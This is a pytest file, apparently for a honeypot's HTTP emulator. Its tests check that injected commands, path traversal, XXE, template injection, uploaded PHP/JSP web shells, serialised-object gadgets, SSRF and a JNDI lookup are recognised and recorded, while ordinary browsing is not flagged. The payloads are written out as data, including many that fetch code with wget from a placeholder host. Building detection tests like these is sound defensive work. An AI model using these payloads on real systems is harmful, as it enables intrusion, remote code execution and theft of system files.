"""Attacks that no row of the table was written for, as their writers wrap them; and ordinary traffic, which is none."""
# ruff: noqa: E501 -- a request is a line

from __future__ import annotations

import base64
import json
from urllib.parse import quote

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised
from eudaemon.protocols import _carried as carried
from eudaemon.protocols import _loot as loot
from eudaemon.protocols import load
from eudaemon.protocols._http import Request
from eudaemon.protocols._places import Look
from eudaemon.protocols._uploads import files_of
from eudaemon.protocols.catchall import COMMAND_LINES_MAX, LOOK_BYTES_MAX
from eudaemon.protocols.http import Http, planted, ways
from eudaemon.testing.script import Table, visit
from eudaemon.world.memory import Memory

HOST = visit().host
WGET = "wget http://198.51.100.7/x -O /tmp/x"
B64 = base64.b64encode(WGET.encode()).decode()


def ask(line: str, body: bytes = b"", headers: str = "", memory: Memory | None = None) -> Table:
    lines = [f"{line} HTTP/1.1", "Host: 192.0.2.1", *([headers] if headers else []), f"Content-Length: {len(body)}"]
    talk = Table(Http(visit(host=HOST, port=80, memory=memory))).open()
    talk.say("\r\n".join([*lines, "", ""]).encode("latin-1") + body)
    talk.end()
    return talk


def exploits(talk: Table) -> list[str]:
    return [fact.name for fact in talk.facts if isinstance(fact, ExploitRecognised)]


def commands(talk: Table) -> list[str]:
    return [fact.line for fact in talk.facts if isinstance(fact, CommandEntered)]


def answer(talk: Table) -> bytes:
    return talk.sent.partition(b"\r\n\r\n")[2]


# --- where a command stands, and how it is wrapped ------------------------------------------------

VALUES = (
    f"x;{WGET};", f"x|{WGET}", f"x&&{WGET}", f"`{WGET}`", f"$({WGET})", f"x\n{WGET}\n", f"';{WGET};'", f'";{WGET};"',
    f"$({WGET.replace(' ', '${IFS}')})", f"x);system('{WGET}');//", f"<?php system(\"{WGET}\");?>",
    f"<?=`{WGET}`?>", f"${{@shell_exec('{WGET}')}}", f"system(base64_decode('{B64}'))",
    f"x'.passthru('{WGET}').'", f"require('child_process').exec('{WGET}')",
    f"process.mainModule.require(\"child_process\").spawnSync('sh',['-c','{WGET}'])",
    f"__import__('os').system('{WGET}')", f"import subprocess;subprocess.run(['sh','-c','{WGET}'])",
    f"{{{{cycler.__init__.__globals__.os.popen('{WGET}').read()}}}}", f"<%= IO.popen('{WGET}').read %>", f"%x({WGET})",
    f"os.execute(\"{WGET}\")", f"Kernel.exec('{WGET}')",
    f"${{T(java.lang.Runtime).getRuntime().exec(\"{WGET}\")}}",
    f"new java.lang.ProcessBuilder(new String[]{{\"/bin/sh\",\"-c\",\"{WGET}\"}}).start()",
    f"Runtime.getRuntime().exec(new String(java.util.Base64.getDecoder().decode(\"{B64}\")))",
    f"String c = \"{WGET}\"; Runtime.getRuntime().exec(c);",
    f"<#assign e=\"freemarker.template.utility.Execute\"?new()>${{e(\"{WGET}\")}}",
    f"\"{WGET}\".execute().text", f"COPY t FROM PROGRAM '{WGET}'", f"1;EXEC xp_cmdshell '{WGET}'",
    WGET, f"/c {WGET}", f"bash -c '{WGET}'",
)  # fmt: skip


@pytest.mark.parametrize("value", VALUES)
def test_a_command_in_any_language_wherever_it_stands(value: str) -> None:
    def found(talk: Table) -> bool:
        return any(WGET in line.replace("${IFS}", " ") for line in commands(talk))

    field = json.dumps({"a": [{"b": value}]}).encode()
    assert found(ask(f"GET /never/seen?p={quote(value, safe='')}")), "query"
    assert found(ask(f"GET /never/seen?p={quote(quote(value, safe=''), safe='')}")), "query, encoded twice"
    assert found(ask("POST /never/seen", b"p=" + quote(value, safe="").encode())), "form"
    assert found(ask("POST /never/seen", field)), "JSON"
    assert found(ask("POST /never/seen", b"p=" + quote(field, safe="").encode())), "JSON in a form"
    part = f'--B\r\nContent-Disposition: form-data; name="p"\r\n\r\n{value}\r\n--B--\r\n'.encode()
    assert found(ask("POST /never/seen", part, "Content-Type: multipart/form-data; boundary=B")), "part"
    xml = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert found(ask("POST /never/seen", f"<?xml version='1.0'?><a><b>{xml}</b></a>".encode())), "XML"
    assert found(ask("GET /never/seen", headers=f"X-Any: {quote(value, safe='')}")), "header"
    assert found(ask("GET /never/seen", headers=f"Cookie: a=b; c={quote(value, safe='')}")), "cookie"


def test_a_whole_command_line_stays_whole() -> None:
    for line in (
        f"(wget -qO- http://198.51.100.7/x || {WGET}) | sh",
        f"cd /tmp; {WGET}; sh x",
        f"ping -c 1 192.0.2.9; {WGET}",
    ):
        assert commands(ask(f"GET /a?anything={quote(line, safe='')}")) == [line]


def test_base64_and_hexadecimal_around_a_command() -> None:
    inner = f"x;{WGET};".encode()
    for wrapped in (base64.b64encode(inner).decode(), inner.hex()):
        assert commands(ask(f"GET /a?u={quote(wrapped)}")) == [WGET]
        assert commands(ask("POST /a", json.dumps({"a": wrapped}).encode())) == [WGET]


def test_serialised_objects() -> None:
    java = b"\xac\xed\x00\x05sr\x00\x11java.util.HashSetxpt\x00\x09someClasst\x00" + bytes((len(WGET),)) + WGET.encode()
    assert carried.serialised(java) == loot.Loot(WGET.encode())
    assert commands(ask("POST /invoker/a", java)) == [WGET]
    assert commands(ask(f"GET /?state={quote(base64.b64encode(java), safe='')}")) == [WGET]
    assert commands(ask("POST /a", b"d=" + java.hex().encode())) == [WGET]
    pickled = (
        b"\x80\x04\x95\x30\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c"
        + bytes((len(WGET),))
        + WGET.encode()
        + b"\x85R."
    )
    assert carried.serialised(pickled) == loot.Loot(WGET.encode())
    assert carried.serialised(b"\xac\xed\x00\x05" + b"t" * 70_000) is None


@pytest.mark.parametrize("past", [0, 1])
def test_strings_of_an_object_are_looked_at_up_to_limits(past: int) -> None:
    text = b"id;" + WGET.encode()
    string = b"t" + len(text).to_bytes(2, "big") + text
    many = b"\xac\xed\x00\x05" + b"t\x00\x02ab" * (carried.STRINGS_MAX - 1 + past) + string
    assert (carried.serialised(many) is None) is bool(past)
    long = WGET.encode() + b" " * (carried.STRING_BYTES_MAX + past - len(WGET) - 1) + b"x"
    assert (carried.serialised(b"\xac\xed\x00\x05t" + len(long).to_bytes(2, "big") + long) is None) is bool(past)


def test_values_are_looked_at_up_to_a_limit() -> None:
    query = b"&".join(b"p=%d;%d" % (number, number) + b"a" * 5000 for number in range(120))
    look = Look(Request("POST", b"/x?" + query, (1, 1), ()), query)
    assert sum(len(value) for value in look.values) <= 512 * 1024


# --- what is shown --------------------------------------------------------------------------------


def test_output_is_shown_and_a_silent_command_gets_a_page() -> None:
    assert answer(ask("GET /cgi-bin/a.cgi?h=;echo+4711")) == b"4711\n"
    assert answer(ask("GET /cgi-bin/a.cgi?h=;expr+70+%2B+7")) == b"77\n"
    assert ask("GET /cgi-bin/a.cgi?h=;true;cd+/tmp").sent.startswith(b"HTTP/1.")


def test_files_of_the_host_are_read_and_others_are_not_there() -> None:
    for target in ("/a?f=../../../etc/passwd", "/a/..%2f..%2f..%2fetc/passwd", "/a?f=/etc/passwd", "/a?f=file:///etc/passwd",
                   "/a?f=....//....//etc/passwd", "/a?f=..%252f..%252fetc%252fpasswd%00.png", "/a?f=/./../etc/passwd"):  # fmt: skip
        talk = ask(f"GET {target}")
        assert exploits(talk) == ["path-traversal"], target
        assert b":0:0:" in answer(talk), target
    missing = ask("GET /a?f=../../../windows/win.ini")
    assert exploits(missing) == ["path-traversal"]
    assert b"404" in missing.sent.split(b"\r\n")[0] or b"401" in missing.sent.split(b"\r\n")[0]


def test_an_external_entity_reads_a_file() -> None:
    body = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    assert b":0:0:" in answer(ask("POST /api", body, "Content-Type: application/xml"))


def test_a_template_shows_its_sum() -> None:
    for value, shown in (
        ("a{{7*191}}b", b"a1337b"),
        ("${7*191}", b"1337"),
        ("<%= 7*191 %>", b"1337"),
        ("#{191+7}", b"198"),
    ):
        assert answer(ask(f"GET /a?n={quote(value)}")) == shown


@pytest.mark.parametrize("past", [0, 1])
def test_an_address_gets_in_at_a_few_places_and_stays_in_there(past: int) -> None:
    memory = Memory()
    for number in range(ways.WAYS_MAX - 1 + past):
        assert answer(ask(f"GET /{number}?h=;echo+4711", memory=memory)) == b"4711\n"
    last = ask("GET /last?h=;echo+4711", memory=memory)
    assert commands(last) == ["echo 4711"]  # it is taken all the same
    assert (answer(last) == b"4711\n") is not bool(past)
    assert answer(ask("GET /0?h=;echo+4712", memory=memory)) == b"4712\n"
    assert answer(ask("GET /other?h=;echo+4712")) == b"4712\n"  # of another address's memory


# --- scripts that are brought, and then called ------------------------------------------------------


def part(name: str, content: str) -> bytes:
    return f'--B\r\nContent-Disposition: form-data; name="f"; filename="{name}"\r\n\r\n{content}\r\n--B--\r\n'.encode()


def test_what_is_uploaded_does_what_it_says() -> None:
    kind = "Content-Type: multipart/form-data; boundary=B"
    for name, content, query, shown in (
        ("a.php", "<?php echo md5('word'); unlink(__FILE__);", "", b"c47d187067c6cf953245f128b5fde62a"),
        ("b.php", "GIF89a<?php system($_GET['q']);?>", "?q=echo+4711", b"4711\n"),
        ("c.php", "<?php @eval($_POST['p']);?>", "?p=system('echo+4711');", b"4711\n"),
        ("d.jsp", '<% out.println("hello 12"); %>', "", b"hello 12"),
        (
            "e.jsp",
            '<% Runtime.getRuntime().exec(request.getParameter("q")); new ProcessBuilder(); %>',
            "?q=echo+4711",
            b"4711\n",
        ),
        ("f.txt", "plain 4711", "", b"plain 4711"),
    ):
        memory = Memory()
        sent = ask("POST /upload", part(name, content), kind, memory)
        assert [keep.data for keep in sent.kept if keep.origin == "upload"] == [content.encode()]
        assert answer(ask(f"GET /files/{name}{query}", memory=memory)) == shown, name
        assert shown not in ask(f"GET /files/{name}?").sent  # nobody else sees it
    memory = Memory()
    ask("PUT /x/y.jsp", b'<% out.print("put 1"); %>', memory=memory)
    assert answer(ask("GET /x/y.jsp", memory=memory)) == b"put 1"


def test_a_script_runs_what_the_same_request_gives_it() -> None:
    talk = ask("GET /a.php?page=../log&q=uptime", headers="User-Agent: <?php passthru($_GET['q']);?>")
    assert (exploits(talk), commands(talk)) == (["php-injection"], ["uptime"])
    assert b"load average" in answer(talk)


def test_what_a_command_writes_can_be_asked_for() -> None:
    memory = Memory()
    ask("GET /cgi-bin/a.cgi?h=;echo+4711+>/tmp/seen.txt", memory=memory)
    assert answer(ask("GET /seen.txt", memory=memory)) == b"4711\n"
    assert b"4711" not in ask("GET /seen.txt").sent


def test_what_was_left_by_other_rooms_is_there() -> None:
    came = visit(host=HOST, memory=(memory := Memory()))
    files = files_of(came, "device", HOST.tree, HOST.writable)  # as telnet, SSH and FTP have it
    files.append(files.create(b"/tmp/left", 0.0), b"4711\n", 0.0)
    files.leave()
    assert answer(ask("GET /a.cgi?h=;cat+/tmp/left", memory=memory)) == b"4711\n"
    assert b"4711" not in ask("GET /a.cgi?h=;cat+/tmp/left").sent


def test_who_only_looks_leaves_nothing() -> None:
    memory = Memory()
    for target in ORDINARY:
        ask(f"GET {target}", memory=memory)
    assert (memory.bytes_held, memory.left.bytes_held) == (0, 0)


@pytest.mark.parametrize("past", [0, 1])
def test_scripts_are_remembered_up_to_limits(past: int) -> None:
    memory = Memory()
    pieces = [
        part(f"n{number}.php", f"<?php echo md5('{number}');?>")[:-7]
        for number in range(planted.SCRIPTS_MAX - 1 + past)
    ]
    body = b"".join(pieces) + part("last.php", "<?php echo md5('0');?>")
    ask("POST /upload", body, "Content-Type: multipart/form-data; boundary=B", memory)
    assert (b"cfcd208495d565ef66e7dff9f98764da" in ask("GET /last.php", memory=memory).sent) is not bool(past)
    shown = b"a" * (planted.SHOWN_BYTES_MAX + past)
    ask(
        "POST /upload",
        part("t.txt", shown.decode()),
        "Content-Type: multipart/form-data; boundary=B",
        memory := Memory(),
    )
    assert len(answer(ask("GET /t.txt", memory=memory))) == planted.SHOWN_BYTES_MAX


# --- addresses ------------------------------------------------------------------------------------


def test_addresses_that_a_request_names_are_wished_for() -> None:
    for line, body in (
        ("GET /proxy?url=http://198.51.100.7/a", b""), ("POST /hook", b'{"a": {"src": "http://198.51.100.7/a"}}'),
        ("POST /soap", b"<a><target>http://198.51.100.7/a</target></a>"),
    ):  # fmt: skip
        talk = ask(line, body)
        assert [wish.download.url for wish in talk.wishes] == ["http://198.51.100.7/a"]
        assert exploits(talk) == []
    for target in (
        "/?return_to=http://198.51.100.7/",
        "/a?u=http://192.0.2.1/b",
        "/a?url=nothing",
        "/a?q=http+is+a+protocol",
    ):
        assert ask(f"GET {target}").wishes == []
    assert exploits(ask("GET /a?u=http://169.254.169.254/latest/meta-data/")) == ["file-inclusion"]


# --- ordinary traffic -----------------------------------------------------------------------------

BROWSER = (
    "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36\r\n"
    "Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\nAccept-Language: en-GB,en;q=0.7,de;q=0.3\r\n"
    'sec-ch-ua: "Chromium";v="131", "Not_A Brand";v="24"\r\nReferer: https://shop.example/a?b=1&c=2;d=3\r\n'
    "Cookie: _ga=GA1.2.1.2; sid=eyJhbGciOiJIUzI1NiJ9.eyJpZCI6NX0.sig; prefs=a%3B%20id%3D5%7Cb; theme=dark|wide"
)
ORDINARY = (
    "/", "/favicon.ico", "/robots.txt", "/.well-known/security.txt", "/static/css/main.3f9c1b.css?v=1.2.3", "/a/../b/c.js",
    "/search?q=fish+%26+cat+food", "/search?q=what+is+a+web+shell", "/search?q=C%2B%2B;+find+the+bug", "/search?q=tom+%26+id",
    "/search?q=AT%26T;+head+office", "/search?q=rock+%7C+echo+chamber+of+cats;+kill+bill", "/search?q=the+date;+type+of+host",
    "/search?q=set+theory+%26+set+notation", "/search?q=how+to+use+exec()+and+system()+in+C", "/search?q=ping+pong",
    "/search?q=%24%7Bprice%7D+or+%7B%7Bname%7D%7D", "/search?q=5*7+%7B5%7D", "/search?q=I%27m;+it%27s+nice+to+sleep+well",
    "/list?sort=id&order=date&dir=asc&type=host", "/list?cmd=list&action=run&code=12&script=latin", "/list?ids=1;2;3|4|5&x=a,b;c",
    "/api/v1/items?filter=name%20eq%20%27cat%27&select=id,name;top=5", "/api?callback=jQuery123&_=1700000000&command=status",
    "/download?path=docs/manual.pdf", "/download?file=../images/logo.png", "/view?page=home&root=/var/www", "/img?src=/a/b.jpg",
    "/wiki/Unix_commands:_cat;_ls", "/login?next=/home&return=https://shop.example/", "/share?text=curl+and+wget+compared",
    "/map?ll=52.5,13.4&z=5;layers=B&mode=sh", "/t?d=SGVsbG8gd29ybGQsIHRoaXMgaXMgYSBtZXNzYWdl", "/t?h=48656c6c6f20776f726c64",
    "/t?tpl=%7B%25+if+a+%25%7D", "/v2/_catalog", "/metrics", "/index.php?option=com_content&view=article&id=5&Itemid=7",
)  # fmt: skip
BODIES = (
    ("application/json", b'{"query": "query { user(id: 5) { name } }", "variables": {"a": "b;c"}}'),
    ("application/json", b'{"id": 1, "text": "Dear all; please find the host list & set the date. cat pictures | more", "tags": ["sh", "id"]}'),
    ("application/json", b'{"jsonrpc": "2.0", "method": "system.listMethods", "params": ["run", "exec"]}'),
    ("application/x-www-form-urlencoded", b"name=O%27Neil&comment=nice+site%3B+echo+is+good%0Aping+me+later&email=a%40b.example"),
    ("application/x-www-form-urlencoded", b"username=admin&password=p%24%28w%60d%3B1%7C2"),
    ("text/xml", b'<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><a>x; y &amp; z</a></s:Body></s:Envelope>'),
    ("text/html", b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1.dtd"><p>a</p>'),
    ("text/plain", b"Meeting notes;\nset up the host\nfind a date & time\nkill the old process, type it up\n"),
    ("multipart/form-data; boundary=B", part("photo.jpg", "\x7f JFIF; id | sh & cat")),
    ("multipart/form-data; boundary=B", part("notes.txt", "run the script; cat, head and tail are commands")),
)  # fmt: skip


@pytest.mark.parametrize("target", ORDINARY)
def test_ordinary_browsing_is_no_exploit(target: str) -> None:
    talk = ask(f"GET {target}", headers=BROWSER)
    assert exploits(talk) == []
    assert talk.wishes == []


@pytest.mark.parametrize(("kind", "body"), BODIES)
def test_ordinary_clients_are_no_exploit(kind: str, body: bytes) -> None:
    talk = ask("POST /api/things", body, f"Content-Type: {kind}\r\nUser-Agent: python-requests/2.32.3")
    assert exploits(talk) == []
    assert talk.wishes == []


# --- other rooms that speak HTTP -------------------------------------------------------------------

OTHERS = ("tr069", "upnp", "jenkins", "elasticsearch", "yarn", "ipp")


def ask_of(name: str, line: str, body: bytes = b"", headers: str = "") -> Table:
    lines = [f"{line} HTTP/1.1", "Host: 192.0.2.1", *([headers] if headers else []), f"Content-Length: {len(body)}"]
    talk = Table(load(name)(visit(host=HOST, port=8088))).open()
    talk.say("\r\n".join([*lines, "", ""]).encode("latin-1") + body)
    talk.end()
    return talk


@pytest.mark.parametrize("name", OTHERS)
def test_other_rooms_take_what_was_meant_for_other_products_and_answer_as_ever(name: str) -> None:
    for attacked, harmless in (
        (f"GET /cgi-bin/a.cgi?h=;{quote(WGET)}", "GET /cgi-bin/a.cgi?h=1"),
        (f"GET /x?y=$({quote(WGET)})", "GET /x?y=1"),
    ):
        talk = ask_of(name, attacked)
        assert exploits(talk) == ["shell-injection"]
        assert commands(talk) == [WGET]
        assert talk.sent.split(b" ")[1] == ask_of(name, harmless).sent.split(b" ")[1]
    assert exploits(ask_of(name, "GET /a?f=../../../etc/passwd")) == ["path-traversal"]
    kept = ask_of(
        name, "POST /up", part("a.php", "<?php system($_GET['a']);?>"), "Content-Type: multipart/form-data; boundary=B"
    ).kept
    assert [keep.data for keep in kept if keep.origin == "upload"] == [b"<?php system($_GET['a']);?>"]
    for target in ORDINARY[1:]:
        assert exploits(ask_of(name, f"GET {target}", headers=BROWSER)) == [], target


def catchall(*requests: bytes, cut: bool = False) -> Table:
    talk = Table(load("catchall")(visit(host=HOST, port=9999))).open()
    for request in requests:
        talk.say(request)
        if not cut:
            talk.wait(1)
    talk.end()
    return talk


def test_at_any_other_port_requests_are_taken_unanswered() -> None:
    first = b"POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\n\r\nh=1;id"
    second = b"GET /y?h=;uname+-a HTTP/1.1\r\nHost: a\r\n\r\n"
    for talk in (catchall(first, second), catchall(first + second, cut=True)):
        assert commands(talk) == ["id", "uname -a"]  # each once
        assert exploits(talk) == ["shell-injection"] * 2
        assert talk.sent == b""
    assert commands(catchall(first.replace(b"Length: 6", b"Length: 60"), cut=True)) == ["id"]
    fetching = catchall(f"GET /y?h=;{quote(WGET)} HTTP/1.1\r\nHost: a\r\n\r\n".encode())
    assert [wish.download.url for wish in fetching.wishes] == ["http://198.51.100.7/x"]
    asked = catchall(b"GET /?x=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\nHost: a\r\n\r\n")
    assert [wish.download.url for wish in asked.wishes] == ["ldap://198.51.100.7/a"]
    for target in ORDINARY:
        assert exploits(catchall(f"GET {target} HTTP/1.1\r\n{BROWSER}\r\n\r\n".encode())) == [], target


@pytest.mark.parametrize("past", [0, 1])
def test_there_requests_are_looked_through_up_to_limits(past: int) -> None:
    head = b"POST /x?h=;id HTTP/1.1\r\nContent-Length: "
    size = LOOK_BYTES_MAX + past - len(head) - 4 - 6
    assert (commands(catchall(head + b"%d\r\n\r\n" % size + b"a" * size)) == ["id"]) is not bool(past)
    lines = quote("\n".join(["id"] * (COMMAND_LINES_MAX + past)))
    assert len(commands(catchall(f"GET /x?h=;{lines} HTTP/1.1\r\n\r\n".encode()))) == COMMAND_LINES_MAX
